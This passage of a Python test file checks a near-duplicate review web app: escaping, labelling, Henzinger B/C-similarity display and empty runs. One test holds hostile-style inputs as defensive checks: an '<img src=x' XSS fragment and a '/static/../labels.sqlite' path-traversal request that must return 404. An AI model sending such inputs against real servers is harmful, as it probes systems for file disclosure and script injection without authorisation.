    assert "quiltdetect review: 8 dropped pages of" in capsys.readouterr().out


def test_a_neardup_run_over_http_is_escaped_under_the_strict_policy(nd_app):
    server, base = serve_in_thread(nd_app)
    try:
        status, headers, body = fetch(base + "/quilt?" + urlencode({"id": "b-0"}))
        assert status == 200 and headers["Content-Security-Policy"] == CSP
        page = body.decode()
        assert HOSTILE not in page and "<img src=x" not in page and page.count("<script") == 1
        assert "copy?a=1&amp;b=&lt;2&gt;" in page and "<2>" not in page
        status, _, _ = fetch(base + "/label", {"doc_id": "b-0", "label": "duplicate", "token": nd_app.token})
        assert status == 303 and nd_app.store.of_run(nd_app.run.key)["b-0"][0] == "duplicate"
        assert fetch(base + "/static/../labels.sqlite")[0] == 404
        assert "duplicate" in fetch(base + "/summary")[2].decode()
    finally:
        server.shutdown()
        server.server_close()


def test_a_henzinger_run_shows_b_and_c_similarity_and_its_rule(nd_root, tmp_path):
    """A run of Henzinger's combined algorithm carries B- and C-similarity (ints) in duplicate_of/:
    the list, filters, sorting, reason and export follow them."""
    import shutil

    import pyarrow as pa

    root = tmp_path / "combined"
    shutil.copytree(nd_root, root)
    rows = pq.read_table(root / "duplicate_of").to_pylist()
    for i, r in enumerate(rows):
        del r["resemblance"], r["containment"]
        r["b_similarity"], r["c_similarity"] = 1 + i % 6, 328 + 7 * i
    pq.write_table(pa.Table.from_pylist(rows, schema=pa.schema(
        [(n, pa.string()) for n in ("doc_id", "duplicate_of", "kept_url", "kept_run")]
        + [("b_similarity", pa.int32()), ("c_similarity", pa.int32())])), root / "duplicate_of" / "part-00000.parquet")
    (root / "config.yaml").write_text("algorithm: combined\nk: 5\nb_threshold: 1\nc_threshold: 355\n"
                                      "combined_c_threshold: 328\n", encoding="utf-8")
    app = ReviewApp(Run.open(root), LabelStore(tmp_path / "l.sqlite"))
    assert app.run.measures == ["b_similarity", "c_similarity"]
    page = app.list_page({"min_c_similarity": ["350"], "sort": ["c_similarity"], "order": ["asc"]})
    shown = visible(page)
    assert "4 dropped pages" in shown and "combined, k=5: B ≥ 1 and C ≥ 328" in shown  # C 356, 363, 370, 377
    assert "<th>B-similarity</th><th>C-similarity</th>" in page and "resemblance" not in shown
    assert re.findall(r'<td class="num">(\d+)</td><td class="meta">', page) == ["356", "363", "370", "377"]
    assert [r["c_similarity"] for r in app.run.select(ListQuery.parse({"sort": ["c_similarity"]}), {})] == sorted(
        (r["c_similarity"] for r in rows), reverse=True)
    assert app.run.by_id["b-0"]["passed"] == ["B ≥ 1", "C ≥ 328"]
    status, page = app.quilt_page({"id": ["b-0"]})
    assert status == 200 and "B-similarity 1 · C-similarity 328 · passed B ≥ 1 and C ≥ 328" in visible(page)
    app.store.set(app.run.key, "b-0", "duplicate", kind="neardup")
    assert 'id="by-threshold"' not in app.summary_page() and "100.0%" in app.summary_page()
    table = pq.read_table(io.BytesIO(app.export_parquet()))
    assert table.column_names[-2:] == ["b_similarity", "c_similarity"] and table.to_pylist()[0]["c_similarity"] == 328


def test_a_neardup_run_that_dropped_nothing_opens(nd_root, tmp_path, capsys):
    """Before: a run without near-duplicates (duplicate_of/ with no rows) stopped the tool with
    pyarrow's "Array type doesn't match type of values set: string vs null"."""
    import shutil

    from quiltdetect.cli import main

    root = tmp_path / "none"
    shutil.copytree(nd_root, root)
    table = pq.read_table(root / "duplicate_of")
    pq.write_table(table.slice(0, 0), root / "duplicate_of" / "part-00000.parquet")
    app = ReviewApp(Run.open(root), LabelStore(tmp_path / "l.sqlite"))
    assert "0 dropped pages" in app.list_page({}) and 'id="precision"' in app.summary_page()
    assert main(["review", "--run", str(root), "--db", str(tmp_path / "l.sqlite"), "--export", str(tmp_path / "x.csv")]) == 0
    assert "wrote 0 labels" in capsys.readouterr().out
